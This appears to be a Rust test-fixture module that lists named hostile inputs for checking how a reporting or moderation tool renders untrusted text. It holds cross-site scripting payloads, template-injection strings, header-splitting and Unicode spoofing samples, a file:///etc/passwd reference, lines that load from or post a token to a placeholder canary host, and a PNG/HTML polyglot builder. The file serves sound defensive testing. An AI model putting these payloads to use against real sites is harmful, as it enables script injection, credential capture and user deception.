//! What senders, reporters and a desk that was taken over may write.

use crate::pictures::png;

/// Kinds of hostile text, each with a name. `{canary}` is an address that nobody may load.
const TEXTS: [(&str, &str); 32] = [
    (
        "script",
        "<script>window.pwned=1;new Image().src='http://{canary}/ran'</script>",
    ),
    (
        "script from elsewhere",
        "<script src=\"http://{canary}/s.js\"></script>",
    ),
    (
        "closing tags",
        "</bdi></blockquote></article></main><script>window.pwned=1</script>",
    ),
    ("event handler", "<img src=x onerror=\"window.pwned=1\">"),
    (
        "event handler without a click",
        "<details open ontoggle=window.pwned=1>x</details>",
    ),
    (
        "attribute",
        "\" autofocus onfocus=\"window.pwned=1\" x=\"' onfocus='window.pwned=1",
    ),
    (
        "picture from elsewhere",
        "<img src=http://{canary}/pixel.png>",
    ),
    (
        "SVG",
        "<svg xmlns='http://www.w3.org/2000/svg' onload='window.pwned=1'><script>window.pwned=1</script></svg>",
    ),
    (
        "MathML",
        "<math><mtext><style><img src=x onerror=window.pwned=1></style></mtext></math>",
    ),
    (
        "frame",
        "<iframe src='http://{canary}/frame' srcdoc='<script>top.pwned=1</script>'></iframe>",
    ),
    (
        "object",
        "<object data='http://{canary}/object'></object><embed src='http://{canary}/embed'>",
    ),
    (
        "meta refresh",
        "<meta http-equiv=refresh content='0;url=http://{canary}/refresh'>",
    ),
    ("base", "<base href='http://{canary}/'>"),
    (
        "style",
        "<style>*{display:none}body{background:url(http://{canary}/style)}</style>",
    ),
    (
        "style sheet",
        "<link rel=stylesheet href=http://{canary}/sheet.css><link rel=prefetch href=http://{canary}/prefetch>",
    ),
    (
        "form",
        "<form action='http://{canary}/form'><input name=token><button>Sign and send</button></form>",
    ),
    (
        "javascript address",
        "<a href=\"javascript:window.pwned=1\">Sign and send</a> javascript:window.pwned=1",
    ),
    (
        "data address",
        "data:text/html,<script>window.pwned=1</script> <a href='data:text/html;base64,PHNjcmlwdD4='>log</a>",
    ),
    (
        "entities",
        "&lt;script&gt;window.pwned=1&lt;/script&gt; &#60;script&#62; &#x3c;b&#x3e; &amp;lt;",
    ),
    (
        "template",
        "{{constructor.constructor('window.pwned=1')()}} ${window.pwned=1} <%= 7*7 %> #{7*7}",
    ),
    (
        "comment and CDATA",
        "<!--><script>window.pwned=1</script>--> <![CDATA[<script>window.pwned=1</script>]]>",
    ),
    (
        "plain text elements",
        "<plaintext><xmp><textarea></textarea><title></title><noscript><img src=x onerror=window.pwned=1>",
    ),
    (
        "direction override",
        "invoice\u{202e}gnp.exe and \u{2067}abc\u{2066}def \u{202b}right\u{200f}",
    ),
    ("bidirectional text", "שלום עולם (1) مرحبا [2] <b>"),
    (
        "zero width",
        "pay\u{200b}pal\u{200c}.\u{200d}example\u{2060}\u{feff}\u{ad}",
    ),
    ("tag characters", "\u{e0001}\u{e0041}\u{e007f}\u{f8ff}"),
    (
        "marks",
        "Z\u{351}\u{36b}\u{343}\u{32a}\u{302}\u{36b}\u{33d}\u{34f}\u{334}\u{319}\u{324}a\u{31e}\u{349}\u{35a}\u{32f}\u{31e}\u{320}\u{34d}\u{301}\u{301}\u{301}\u{301}l\u{351}\u{351}\u{351}\u{351}\u{351}\u{351}\u{351}\u{351}\u{351}\u{351}\u{351}\u{351}go",
    ),
    (
        "line breaks",
        "one\r\nHTTP/1.1 200 OK\r\nSet-Cookie: a=b\r\n\r\n<script>window.pwned=1</script>",
    ),
    ("controls", "a\0b\u{8}\u{1b}[2J\u{7}\u{85}\u{9b}c"),
    (
        "imitation of this program",
        "Decided by alice 1a2b3c4d…\nMessage 9 by the reported account\n[Sign and send] The reporter withheld part 2",
    ),
    (
        "imitation of a mark",
        "U+202E ⟨U+202E⟩ <span class=mark>U+0000</span> <bdi class=said>",
    ),
    (
        "local address",
        "//{canary}/x /queue ../../sign ?done=decided#main file:///etc/passwd",
    ),
];

/// All hostile texts, each with its name.
pub fn texts(canary: &str) -> Vec<(&'static str, String)> {
    let mut texts: Vec<_> = TEXTS
        .iter()
        .map(|(name, text)| (*name, text.replace("{canary}", canary)))
        .collect();
    texts.push((
        "very long word",
        "W".repeat(63).repeat(2) + &"<b>".repeat(3_000),
    ));
    texts.push((
        "emoji",
        "👩\u{200d}👩\u{200d}👧🏳️\u{200d}🌈".repeat(40) + &"💥".repeat(3_000),
    ));
    texts.push(("many lines", "<hr>\n".repeat(2_000)));
    texts
}

/// A name of at most this many bytes without control characters, as accounts and officers have.
pub fn name(text: &str, max: usize) -> String {
    let mut name: String = text.chars().filter(|c| !c.is_control()).collect();
    while name.len() > max {
        name.pop();
    }
    name
}

/// A picture that is a page as well: a PNG of one pixel, with markup in a comment and at its end.
pub fn polyglot() -> Vec<u8> {
    let script = "<script>window.pwned=1;top.pwned=1</script>";
    let comment = format!("Comment\0{script}");
    let mut bytes = png(1, 1, comment.as_bytes(), |_, _| 200);
    bytes.extend_from_slice(format!("<html><body>{script}</body></html>").as_bytes());
    bytes
}
